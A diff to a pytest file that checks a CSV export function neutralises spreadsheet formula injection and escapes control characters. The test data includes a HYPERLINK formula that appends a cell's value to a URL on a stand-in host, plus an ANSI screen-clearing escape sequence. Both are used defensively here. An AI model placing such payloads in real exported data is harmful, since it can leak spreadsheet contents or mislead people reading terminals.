@@ -16,10 +16,15 @@ STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"]
 @pytest.mark.parametrize("kind", [object, "string", "category"])
 def test_formulas_are_texts(start, kind):
     formula = f'{start}HYPERLINK("http://x/"&A1,"y")'
+    shown = formula.replace("\r", r"\r")
     frame = pd.DataFrame({formula: pd.Series([formula, "words", f"a{formula}"], dtype=kind)})
     assert list(csv.reader(io.StringIO(csv_text(frame), newline=""))) == [
-        [f"'{formula}"], [f"'{formula}"], ["words"], [f"a{formula}"],
+        [f"'{shown}"], [f"'{shown}"], ["words"], [f"a{shown}"],
     ]  # fmt: skip
+
+
+def test_control_characters_are_escaped():
+    assert csv_text(pd.DataFrame({"note": ["\x1b[2Jaway", "two\nlines"]})) == 'note\n\\x1b[2Jaway\n"two\nlines"\n'
 
 
 def test_everything_else_is_as_pandas_writes_it():
